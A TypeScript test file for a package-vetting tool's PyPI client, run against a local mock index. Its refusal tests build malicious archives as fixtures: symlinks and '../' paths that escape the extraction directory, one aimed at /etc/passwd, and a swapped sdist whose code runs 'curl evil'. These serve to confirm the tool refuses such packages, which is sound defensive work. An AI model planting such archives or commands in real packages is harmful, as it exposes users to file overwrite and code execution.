/**
 * The PyPI client end to end against a PyPI-shaped index on 127.0.0.1: a PEP 691 simple JSON
 * API, PEP 503 HTML pages, the PyPI JSON API, an extra index, and real sdists (.tar.gz built with `tar`) and wheels (zips built
 * by the small writer below). The index URL reaches vet only through PIP_INDEX_URL or a
 * pip.conf written here. Malicious archives and swapped files must be refused with nothing
 * extracted.
 */
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Integrity } from '@vet/core';
import { diffPypi, inspectPypi, pypiYanked } from '../packages/cli/src/pypi/index.js';

// ---- archive builders -------------------------------------------------------------------------

interface ZipEntry {
  name: string;
  data?: string;
  symlinkTo?: string;
}

/** A minimal PKZIP writer (deflate, Unix "made by" so symlink modes are honoured). */
function buildZip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const raw = Buffer.from(e.symlinkTo ?? e.data ?? '');
    const comp = deflateRawSync(raw);
    const name = Buffer.from(e.name);
    const crc = crc32(raw);
    const mode = e.symlinkTo !== undefined ? 0o120777 : 0o100644;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(comp.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE((3 << 8) | 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(comp.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE((mode << 16) >>> 0, 38);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, comp);
    centrals.push(central, name);
    offset += local.length + name.length + comp.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** A real sdist: `top/` with the given files (and symlinks), tarred and gzipped by node-tar. */
function buildSdist(
  work: string,
  top: string,
  files: Record<string, string>,
  links: Record<string, string> = {},
): Buffer {
  const src = mkdtempSync(join(work, 'src-'));
  for (const [p, text] of Object.entries(files)) {
    mkdirSync(join(src, top, p, '..'), { recursive: true });
    writeFileSync(join(src, top, p), text);
  }
  for (const [p, target] of Object.entries(links)) symlinkSync(target, join(src, top, p));
  const out = join(work, `${top}.tar.gz`);
  tarCreate({ gzip: true, cwd: src, file: out, sync: true, portable: true }, [top]);
  return readFileSync(out);
}

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const lockHash = (file: string, b: Buffer): Integrity => ({
  algo: 'sha256',
  digest: sha256(b),
  encoding: 'hex',
  covers: file.endsWith('.whl') ? 'wheel' : 'sdist',
  file,
});

// ---- the index ------------------------------------------------------------------------------

interface Served {
  bytes: Buffer;
  yanked?: string | boolean;
  claimSha?: string;
}
const projects: Record<string, Record<string, Served>> = {};
const htmlProjects: Record<string, Record<string, Served>> = {};
const extraProjects: Record<string, Record<string, Served>> = {};
const requests: Array<{ url: string; auth?: string }> = [];
let flakyFailures = 1;
let server: Server;
let base = '';
let work = '';

function route(req: IncomingMessage, res: import('node:http').ServerResponse): void {
  const url = req.url ?? '/';
  requests.push({ url, ...(req.headers.authorization ? { auth: req.headers.authorization } : {}) });
  const simple = /^\/simple\/([^/]+)\/$/.exec(url);
  if (simple?.[1] === 'flaky' && flakyFailures-- > 0) return void res.writeHead(503).end('try later');
  if (simple?.[1] === 'htmlonly')
    return void res
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<html><a href="#">htmlonly-1.0.tar.gz</a></html>');
  // A PEP 503 index (HTML only, as many private indexes are): hashes in URL fragments.
  if (simple?.[1] && htmlProjects[simple[1]]) {
    const links = Object.entries(htmlProjects[simple[1]] ?? {}).map(
      ([filename, s]) =>
        `<a href="../../files/${filename}#sha256=${sha256(s.bytes)}"${typeof s.yanked === 'string' ? ` data-yanked="${s.yanked}"` : ''}>${filename}</a><br/>`,
    );
    return void res
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      .end(`<!DOCTYPE html><html><body>${links.join('\n')}</body></html>`);
  }
  // An extra index with its own credentials and projects the primary does not have.
  const extra = /^\/extra\/simple\/([^/]+)\/$/.exec(url);
  if (extra) {
    const p = extraProjects[extra[1] ?? ''];
    if (!p) return void res.writeHead(404).end('not found');
    const files = Object.entries(p).map(([filename, s]) => ({
      filename,
      url: `/files/${filename}`,
      hashes: { sha256: sha256(s.bytes) },
    }));
    return void res
      .writeHead(200, { 'content-type': 'application/vnd.pypi.simple.v1+json' })
      .end(JSON.stringify({ meta: { 'api-version': '1.0' }, name: extra[1], files }));
  }
  if (simple?.[1] && projects[simple[1]]) {
    const files = Object.entries(projects[simple[1]] ?? {}).map(([filename, s]) => ({
      filename,
      url: `../../files/${filename}`,
      hashes: { sha256: s.claimSha ?? sha256(s.bytes) },
      yanked: s.yanked ?? false,
      size: s.bytes.length,
    }));
    return void res
      .writeHead(200, { 'content-type': 'application/vnd.pypi.simple.v1+json' })
      .end(JSON.stringify({ meta: { 'api-version': '1.1' }, name: simple[1], files }));
  }
  const api = /^\/pypi\/([^/]+)\/([^/]+)\/json$/.exec(url);
  if (api?.[1] === 'htmlonly' && api[2] === '1.0') {
    const s = projects['_htmlonly']?.['htmlonly-1.0.tar.gz'] as Served;
    return void res.writeHead(200, { 'content-type': 'application/json' }).end(
      JSON.stringify({
        info: { name: 'htmlonly', version: '1.0', yanked: true, yanked_reason: 'security issue' },
        urls: [
          {
            filename: 'htmlonly-1.0.tar.gz',
            url: `${base}/files/htmlonly-1.0.tar.gz`,
            packagetype: 'sdist',
            digests: { sha256: sha256(s.bytes) },
            yanked: true,
            yanked_reason: 'security issue',
          },
        ],
      }),
    );
  }
  const file = /^\/files\/(.+)$/.exec(url)?.[1];
  const served = file
    ? [...Object.values(projects), ...Object.values(htmlProjects), ...Object.values(extraProjects)]
        .map((p) => p[file])
        .find((s) => s)
    : undefined;
  if (served) return void res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(served.bytes);
  res.writeHead(404).end('not found');
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'vet-pypi-registry-'));
  const demo1 = buildSdist(work, 'demo-1.0', { 'demo/a.py': 'x = 1\n', 'PKG-INFO': 'Name: demo\nVersion: 1.0\n' });
  const demo2 = buildSdist(work, 'demo-2.0', {
    'demo/a.py': 'x = 2\n',
    'demo/b.py': 'y = 1\nz = 2\n',
    'PKG-INFO': 'Name: demo\nVersion: 1.0\n',
  });
  const demoWheel = buildZip([
    { name: 'demo/a.py', data: 'x = 1\n' },
    { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\n' },
  ]);
  projects.demo = {
    'demo-1.0.tar.gz': { bytes: demo1 },
    'demo-1.0-py3-none-any.whl': { bytes: demoWheel },
    'demo-2.0.tar.gz': { bytes: demo2 },
    'demo-3.0.tar.gz': { bytes: buildSdist(work, 'demo-3.0', { 'a.py': '' }), yanked: 'broken build' },
  };
  projects.evil = {
    'evil-1.0.tar.gz': {
      bytes: buildSdist(work, 'evil-1.0', { 'setup.py': 'print(1)\n' }, { passwd: '../../../../etc/passwd' }),
    },
    'evil-2.0-py3-none-any.whl': {
      bytes: buildZip([
        { name: 'evil/__init__.py', data: '' },
        { name: '../escape.py', data: 'owned = True\n' },
      ]),
    },
    'evil-3.0-py3-none-any.whl': {
      bytes: buildZip([
        { name: 'evil/__init__.py', data: '' },
        { name: 'evil/link', symlinkTo: '../../outside' },
      ]),
    },
    'evil-4.0-py3-none-any.whl': { bytes: buildZip([{ name: 'evil/big.py', data: 'x'.repeat(200_000) }]) },
  };
  const honest = buildSdist(work, 'swapped-1.0', { 'ok.py': 'ok = True\n' });
  const attacker = buildSdist(work, 'swapped-1.0', { 'ok.py': 'import os; os.system("curl evil")\n' });
  projects.swapped = { 'swapped-1.0.tar.gz': { bytes: attacker } };
  projects.liar = { 'liar-1.0.tar.gz': { bytes: attacker, claimSha: sha256(honest) } };
  projects.flaky = { 'flaky-1.0.tar.gz': { bytes: buildSdist(work, 'flaky-1.0', { 'f.py': '' }) } };
  projects._htmlonly = { 'htmlonly-1.0.tar.gz': { bytes: buildSdist(work, 'htmlonly-1.0', { 'h.py': '' }) } };
  (globalThis as { __honest?: Buffer }).__honest = honest;
  htmlProjects.classic = {
    'classic-1.0.tar.gz': { bytes: buildSdist(work, 'classic-1.0', { 'classic/__init__.py': 'VERSION = 1\n' }) },
    'classic-2.0.tar.gz': {
      bytes: buildSdist(work, 'classic-2.0', { 'classic/__init__.py': 'VERSION = 2\n' }),
      yanked: 'bad release',
    },
  };
  extraProjects.internal = {
    'internal-1.0.tar.gz': { bytes: buildSdist(work, 'internal-1.0', { 'internal.py': 'SECRET = 0\n' }) },
  };
  server = createServer(route);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  server.close();
  rmSync(work, { recursive: true, force: true });
});

const fresh = () => mkdtempSync(join(work, 'cache-'));
const envFor = (extra: Record<string, string> = {}) => ({ PIP_INDEX_URL: `${base}/simple/`, ...extra });
const quickHttp = { baseDelayMs: 1, maxDelayMs: 5, retries: 2 };
const treesIn = (cache: string) => (existsSync(join(cache, 'trees')) ? readdirSync(join(cache, 'trees')) : []);

describe('PyPI client against a local index', () => {
  it('inspects an sdist found through PIP_INDEX_URL, verified against the lockfile', async () => {
    const cacheDir = fresh();
    const integrity = [lockHash('demo-1.0.tar.gz', projects.demo?.['demo-1.0.tar.gz']?.bytes as Buffer)];
    const r = await inspectPypi('Demo', '1.0', { env: envFor(), home: work, cacheDir, integrity, http: quickHttp });
    expect([r.file, r.verified.against, r.cached, r.yanked]).toEqual(['demo-1.0.tar.gz', 'lockfile', false, false]);
    expect(readFileSync(join(r.dir, 'demo/a.py'), 'utf8')).toBe('x = 1\n');
    const again = await inspectPypi('demo', '1.0', { env: envFor(), home: work, cacheDir, integrity, http: quickHttp });
    expect([again.cached, again.dir]).toEqual([true, r.dir]);
  });

  it('finds the index through a pip.conf the test writes, and extracts a wheel', async () => {
    const home = mkdtempSync(join(work, 'home-'));
    mkdirSync(join(home, '.config', 'pip'), { recursive: true });
    writeFileSync(
      join(home, '.config', 'pip', 'pip.conf'),
      `[global]\nindex-url = ${base}/nowhere/\n[install]\nindex-url = ${base}/simple\n`,
    );
    const wheel = projects.demo?.['demo-1.0-py3-none-any.whl']?.bytes as Buffer;
    const r = await inspectPypi('demo', '1.0', {
      env: {},
      home,
      cwd: home,
      cacheDir: fresh(),
      integrity: [lockHash('demo-1.0-py3-none-any.whl', wheel)],
      http: quickHttp,
    });
    expect(r.file).toBe('demo-1.0-py3-none-any.whl');
    expect(readFileSync(join(r.dir, 'demo-1.0.dist-info/METADATA'), 'utf8')).toBe('Name: demo\n');
    expect(requests.some((q) => q.url === '/nowhere/demo/')).toBe(false);
  });

  it('sends credentials from the index URL as Basic auth to the index origin', async () => {
    const before = requests.length;
    const r = await pypiYanked('demo', '2.0', {
      env: { PIP_INDEX_URL: `${base.replace('//', '//alice:s3cret@')}/simple/` },
      home: work,
      http: quickHttp,
    });
    expect(r).toEqual({ yanked: false });
    expect(requests.slice(before).map((q) => q.auth)).toEqual([
      `Basic ${Buffer.from('alice:s3cret').toString('base64')}`,
    ]);
  });

  it('reports yanked releases with their reason (simple API and JSON API fallback)', async () => {
    expect(await pypiYanked('demo', '3.0', { env: envFor(), home: work, http: quickHttp })).toEqual({
      yanked: true,
      reason: 'broken build',
    });
    expect(await pypiYanked('htmlonly', '1.0', { env: envFor(), home: work, http: quickHttp })).toEqual({
      yanked: true,
      reason: 'security issue',
    });
    await expect(pypiYanked('demo', '9.9', { env: envFor(), home: work, http: quickHttp })).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
  });

  it('reads a PEP 503 HTML-only index: files, #sha256 fragments (verified), data-yanked', async () => {
    const r = await inspectPypi('classic', '1.0', { env: envFor(), home: work, cacheDir: fresh(), http: quickHttp });
    expect([r.file, r.verified.against]).toEqual(['classic-1.0.tar.gz', 'index']);
    expect(readFileSync(join(r.dir, 'classic/__init__.py'), 'utf8')).toBe('VERSION = 1\n');
    expect(await pypiYanked('classic', '2.0', { env: envFor(), home: work, http: quickHttp })).toEqual({
      yanked: true,
      reason: 'bad release',
    });
    expect(await pypiYanked('classic', '1.0', { env: envFor(), home: work, http: quickHttp })).toEqual({
      yanked: false,
    });
  });

  it('searches PIP_EXTRA_INDEX_URL after the primary, sending its credentials only to it', async () => {
    const before = requests.length;
    const env = envFor({ PIP_EXTRA_INDEX_URL: `${base.replace('//', '//bob:pw@')}/extra/simple/` });
    const bytes = extraProjects.internal?.['internal-1.0.tar.gz']?.bytes as Buffer;
    const r = await inspectPypi('internal', '1.0', {
      env,
      home: work,
      cacheDir: fresh(),
      integrity: [lockHash('internal-1.0.tar.gz', bytes)],
      http: quickHttp,
    });
    expect(readFileSync(join(r.dir, 'internal.py'), 'utf8')).toBe('SECRET = 0\n');
    const seen = requests.slice(before);
    expect(seen.map((q) => q.url)).toEqual([
      '/simple/internal/',
      '/pypi/internal/1.0/json',
      '/extra/simple/internal/',
      '/files/internal-1.0.tar.gz',
    ]);
    const bobs = `Basic ${Buffer.from('bob:pw').toString('base64')}`;
    // One origin serves both indexes here, so the extra's credentials go to that origin; what
    // matters is that they are not in the URL and not sent to an origin that did not ask.
    expect(seen.filter((q) => q.url.startsWith('/extra/')).every((q) => q.auth === bobs)).toBe(true);
    await expect(pypiYanked('nowhere', '1.0', { env, home: work, http: quickHttp })).rejects.toThrow(
      /any of the package indexes .*\/simple\/, .*\/extra\/simple\//,
    );
  });

  it('retries a 503 with backoff and then succeeds', async () => {
    const before = requests.length;
    expect(await pypiYanked('flaky', '1.0', { env: envFor(), home: work, http: quickHttp })).toEqual({ yanked: false });
    expect(requests.slice(before).filter((q) => q.url === '/simple/flaky/').length).toBe(2);
  });

  it('diffs two releases with a diffstat', async () => {
    const d = await diffPypi('demo', '1.0', '2.0', { env: envFor(), home: work, cacheDir: fresh(), http: quickHttp });
    expect(d.stat).toEqual({ filesChanged: 2, insertions: 3, deletions: 1 });
    expect(d.files.map((f) => [f.path, f.status])).toEqual([
      ['demo/a.py', 'modified'],
      ['demo/b.py', 'added'],
    ]);
    expect(d.patch).toContain('--- a/demo/a.py\n+++ b/demo/a.py\n');
    expect(d.patch).toContain('-x = 1\n+x = 2\n');
  });
});

describe('refusals: nothing is used, nothing is extracted', () => {
  const refuse = async (name: string, version: string, code: string, integrity?: Integrity[], limits?: object) => {
    const cacheDir = fresh();
    const err = await inspectPypi(name, version, {
      env: envFor(),
      home: work,
      cacheDir,
      http: quickHttp,
      ...(integrity ? { integrity } : {}),
      ...(limits ? { limits } : {}),
    }).then(
      () => undefined,
      (e: unknown) => e as { code?: string; message?: string },
    );
    expect(err?.code, err?.message).toBe(code);
    expect(treesIn(cacheDir)).toEqual([]);
    return err;
  };

  it('an sdist with a symlink pointing outside', async () => {
    const err = await refuse('evil', '1.0', 'UNSAFE_ARCHIVE');
    expect(err?.message).toMatch(/symbolic link/);
  });

  it('a wheel with a ../ name', async () => {
    const err = await refuse('evil', '2.0', 'UNSAFE_ARCHIVE');
    expect(err?.message).toMatch(/relative path|'\.\.'/);
    expect(existsSync(join(work, 'escape.py'))).toBe(false);
  });

  it('a wheel with a symlink pointing outside', async () => {
    const err = await refuse('evil', '3.0', 'UNSAFE_ARCHIVE');
    expect(err?.message).toMatch(/symbolic link/);
  });

  it('a wheel over the size cap', async () => {
    const err = await refuse('evil', '4.0', 'UNSAFE_ARCHIVE', undefined, { maxTotalBytes: 100_000 });
    expect(err?.message).toMatch(/100000 bytes/);
  });

  it('a download whose hash differs from the lockfile', async () => {
    const honest = (globalThis as { __honest?: Buffer }).__honest as Buffer;
    await refuse('swapped', '1.0', 'INTEGRITY_MISMATCH', [lockHash('swapped-1.0.tar.gz', honest)]);
  });

  it('a download whose hash differs from what the index itself claims', async () => {
    await refuse('liar', '1.0', 'INTEGRITY_MISMATCH');
  });
});

// ---- the vet CLI on a Python project ----------------------------------------------------------

import { runVet, tempProject } from './helpers/project.js';
import { c as tarCreate } from 'tar';

describe('vet on a requirements.txt project, against the local index', () => {
  const pin = (version: string) => {
    const file = `demo-${version}.tar.gz`;
    return `demo==${version} \\\n    --hash=sha256:${sha256(projects.demo![file]!.bytes)}\n`;
  };
  const env = () => ({ PIP_INDEX_URL: `${base}/simple/` });

  it('init, then check flags a yanked release (a warning) and still passes', async () => {
    const p = tempProject({ 'requirements.txt': pin('3.0') });
    try {
      expect((await runVet(['init'], { cwd: p.dir, env: env() })).code).toBe(0);
      expect(p.read('supply-chain/config.toml')).toContain('[vet]\necosystem = "pypi"');
      const r = await runVet(['check'], { cwd: p.dir, env: env() });
      expect(r.stdout).toContain('Vetting Succeeded (1 exempted)');
      expect(r.stdout).toContain('demo:3.0: yanked: broken build');
      expect(r.code).toBe(0);
    } finally {
      p.cleanup();
    }
  });

  it('a requirement that is not pinned cannot be vetted: the check fails naming file and line', async () => {
    const p = tempProject({ 'requirements.txt': `flask>=2\n${pin('1.0')}` });
    try {
      await runVet(['init'], { cwd: p.dir, env: env() });
      const r = await runVet(['check', '--locked'], { cwd: p.dir, env: env() });
      expect(r.stdout).toMatch(/^Vetting Failed! \(unpinned\)\n/);
      expect(r.stdout).toMatch(/requirements\.txt:1: flask>=2 \(not pinned with == \(a range, not a lock\)\)/);
      expect(r.code).toBe(1);
      const json = await runVet(['check', '--locked', '--output-format', 'json'], { cwd: p.dir, env: env() });
      const doc = JSON.parse(json.stdout) as Record<string, unknown>;
      expect(doc['conclusion']).toBe('fail (unpinned)');
      expect(doc['unpinned_requirements']).toEqual([
        expect.objectContaining({
          line: 1,
          requirement: 'flask>=2',
          reason: 'not pinned with == (a range, not a lock)',
        }),
      ]);
      expect(doc['vetted_with_exemptions']).toEqual([{ name: 'demo', version: '1.0' }]);
    } finally {
      p.cleanup();
    }
  });

  it('a new version fails with a measured delta suggestion; diff --stat shows it', async () => {
    const p = tempProject({ 'requirements.txt': pin('1.0') });
    try {
      await runVet(['init'], { cwd: p.dir, env: env() });
      p.write('requirements.txt', pin('2.0'));
      const r = await runVet(['check'], { cwd: p.dir, env: env() });
      expect(r.code).toBe(1);
      expect(r.stdout).toContain('demo:2.0 missing ["safe-to-deploy"]');
      expect(r.stdout).toMatch(/vet diff demo 1\.0 2\.0 .* 2 files changed, 3 insertions\(\+\), 1 deletions\(-\)/);
      const d = await runVet(['diff', 'demo', '1.0', '2.0', '--stat'], { cwd: p.dir, env: env() });
      expect(d.code).toBe(0);
      expect(d.stdout).toContain('2 files changed, 3 insertions(+), 1 deletion(-)');
    } finally {
      p.cleanup();
    }
  });
});
